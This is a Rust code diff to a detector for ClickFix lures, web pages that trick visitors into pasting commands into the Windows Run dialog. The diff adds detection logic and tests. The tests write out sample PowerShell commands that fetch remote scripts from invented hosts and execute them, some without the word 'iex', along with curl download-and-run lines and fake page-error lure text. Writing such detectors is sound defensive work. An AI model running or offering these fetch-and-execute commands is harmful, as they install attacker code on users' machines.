@@ -49,6 +49,9 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
+/// Weight that marks a `fix_pretext` phrase as the page's own failure ("failed to load", "could
+/// not be displayed", "an error occurred"): a kit's fake error, never a help page's problem.
+const PAGE_FAILURE: f32 = 0.9;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -200,6 +203,17 @@ impl Command {
                 | Shape::MsiexecUrl
                 | Shape::PipeToShell
                 | Shape::DownloadExec => true,
+                // A curl/wget download run: only the page's own installer, named for the site
+                // (`QuillNoteSetup.exe` on quillnote.example; a kit on a broken-into site saves
+                // `r.exe`: review 33 m42-m44), shown, under the page's own install words, about no
+                // video or meeting (a lure's reason to install).
+                Shape::DownloadStart => {
+                    self.fetches_from_site(&page.site)
+                        && page.names_file(self)
+                        && page.shows(self)
+                        && page.install_prose()
+                        && !page.lure_topic()
+                }
                 Shape::Osascript => !["shell script", "hidden answer", "password", "://"]
                     .iter()
                     .any(|w| has(&self.flat, w)),
@@ -859,9 +873,20 @@ fn shapes(flat: &str) -> Vec<Shape> {
 
     // PowerShell: flags can be abbreviated to any unambiguous prefix.
     let ps = prog("powershell") || prog("pwsh");
-    let ps_exec = ["iex", "invoke-expression", "invoke-command", "icm"]
-        .iter()
-        .any(|w| has_word(flat, w));
+    // (`[scriptblock]::Create(…).Invoke()`, `$ExecutionContext.InvokeCommand.InvokeScript(…)`,
+    // `&(gcm i*x)`: the same run of fetched text without the word `iex`.)
+    let ps_exec = [
+        "iex",
+        "invoke-expression",
+        "invoke-command",
+        "icm",
+        "scriptblock",
+        "invokescript",
+        "gcm",
+        "get-command",
+    ]
+    .iter()
+    .any(|w| has_word(flat, w));
     let ps_fetch = [
         "iwr",
         "irm",
@@ -1493,10 +1518,28 @@ impl PageHits {
             })
             && self.shows(command)
             && self.install_prose()
-            && !"video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
-                 vergadering reunião riunione"
-                .split(' ')
-                .any(|w| has(&self.flat, w))
+            && !self.lure_topic()
+    }
+
+    /// A program the command saves is named for the page's site (its registrable name, four
+    /// letters or more: `RechnungsprofiSetup.exe` on rechnungsprofi.example).
+    #[inline(never)]
+    fn names_file(&self, command: &Command) -> bool {
+        let name = self.site.split('.').next().unwrap_or("");
+        name.len() >= 4
+            && tokens(&command.flat)
+                .iter()
+                .any(|t| !has(t, "://") && runnable(t) && has(base_name(t), name))
+    }
+
+    /// The page names a video, a film or a meeting: a lure's reason to install a player or a
+    /// plugin (review 29 CP-M1).
+    #[inline(never)]
+    fn lure_topic(&self) -> bool {
+        "video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
+         vergadering reunião riunione"
+            .split(' ')
+            .any(|w| has(&self.flat, w))
     }
 
     /// Install documentation, not a lure: the page documents an installation (or shows the
@@ -1552,6 +1595,20 @@ impl PageHits {
                             .contains(['.', '!', '?', '\n', '。', '！', '？', ';', ',', '，', '、'])
                     })
             })
+    }
+
+    /// A failure the page quotes or asks about, not one it claims ("Outlook shows \"Something went
+    /// wrong\"?", "« Impossible d'afficher la page » : que faire ?"): a help page's topic.
+    #[inline(never)]
+    fn described(&self, h: &Hit) -> bool {
+        let ends = ['.', '!', '?', '\n', '。', '！', '？'];
+        let before = self.base.get(..h.start).unwrap_or("");
+        let lead = &before[before.rfind(ends).map_or(0, |i| i + 1)..];
+        let after = self.base.get(h.end..).unwrap_or("");
+        lead.contains(['"', '“', '«', '„', '「'])
+            || after
+                .find(ends)
+                .is_some_and(|i| after[i..].starts_with(['?', '？']))
     }
 
     /// Install words in the page's own prose, not in a file or path name (a lure's `curl
@@ -1976,9 +2033,17 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // with documentation around it, or a problem asked about, not an error claimed ("Error:
     // this document could not be displayed").
     let install_words = page.weight(Cat::InstallDocs) >= 1.0;
+    // The page's own failure claimed ("the calendar did not load correctly", "Erreur lors du
+    // chargement"): a kit on a broken-into site serving its script from the site's root,
+    // `/static/` or `/download/`, whatever install words it adds; a help page fixes the
+    // reader's software.
     let own_fetch = command.fetches_from_site(&page.site)
+        && page
+            .story()
+            .all(|h| h.cat != Cat::FixPretext || h.weight > PAGE_FAILURE || page.described(h))
         && (install_words || page.story().all(|h| h.cat != Cat::Error));
     let help = install_like
+        && !command.shapes.contains(&Shape::DownloadStart)
         && (install_words || !command.installs_package())
         && shown
         && (!command.remote || own_fetch)
@@ -4513,6 +4578,67 @@ mod tests {
             )),
             None
         );
+    }
+
+    #[test]
+    fn clickfix34_fetched_text_run_without_iex_and_the_pages_own_failure() {
+        // A fetch run through a script block or a looked-up `iex` (invented hosts).
+        for clip in [
+            "[scriptblock]::Create((irm https://doc-open.test/o)).Invoke()",
+            "irm https://sec-check.test/c | &(gcm i*x)",
+            "$ExecutionContext.InvokeCommand.InvokeScript((irm https://sec-check.test/c))",
+        ] {
+            assert!(
+                shapes_of(clip).contains(&Shape::PowerShellDownload),
+                "{clip}"
+            );
+        }
+        // A kit on a broken-into site serves its script from the site itself and claims the page
+        // failed; a help page quotes or asks about a failure of the reader's software.
+        let c = "powershell -c \"irm https://www.lakeside-clinic.example/static/fix.ps1 | iex\"";
+        let run = |url: &str, text: &str| {
+            reasons(&snap_of(
+                url,
+                "",
+                &format!("{text}\nPress Windows + R, paste the line below and press Enter:\n{c}"),
+                c,
+            ))
+        };
+        for text in [
+            "The appointment calendar did not load correctly. How to fix:",
+            "Something went wrong while loading the calendar. To fix it:",
+        ] {
+            assert!(
+                run("https://www.lakeside-clinic.example/book", text).is_some(),
+                "{text}"
+            );
+        }
+        for text in [
+            "Lakeside Desk shows \"Something went wrong\" when it starts. Our repair tool clears the cache.",
+            "The desk app cannot display your appointments? Reset its cache.",
+            "If the desk app failed to load after an update, reset its cache.",
+        ] {
+            assert_eq!(run("https://www.lakeside-clinic.example/help", text), None, "{text}");
+        }
+        // A vendor's own installer named for its site, saved by curl and run under its install
+        // words, is documentation; a program named otherwise, or any under a video, is not.
+        let page = |c: &str| {
+            format!(
+                "Download QuillNote for Windows\nInstall QuillNote from the command line: press \
+                     Windows + R, type cmd, then paste the following command:\n{c}\nRelease notes"
+            )
+        };
+        let ok = "curl.exe -Lo QuillNoteSetup.exe https://www.quillnote.example/releases/5.2/QuillNoteSetup.exe && .\\QuillNoteSetup.exe";
+        let url = "https://www.quillnote.example/download";
+        assert_eq!(reasons(&snap_of(url, "", &page(ok), ok)), None);
+        for c in [
+            "curl.exe -Lo q.exe https://www.quillnote.example/releases/5.2/q.exe && .\\q.exe",
+            "curl.exe -Lo QuillNoteSetup.exe https://cdn.other-host.example/QuillNoteSetup.exe && .\\QuillNoteSetup.exe",
+        ] {
+            assert!(reasons(&snap_of(url, "", &page(c), c)).is_some(), "{c}");
+        }
+        let video = format!("{}\nThis video needs the QuillNote player.", page(ok));
+        assert!(reasons(&snap_of(url, "", &video, ok)).is_some());
     }
 
     #[test]
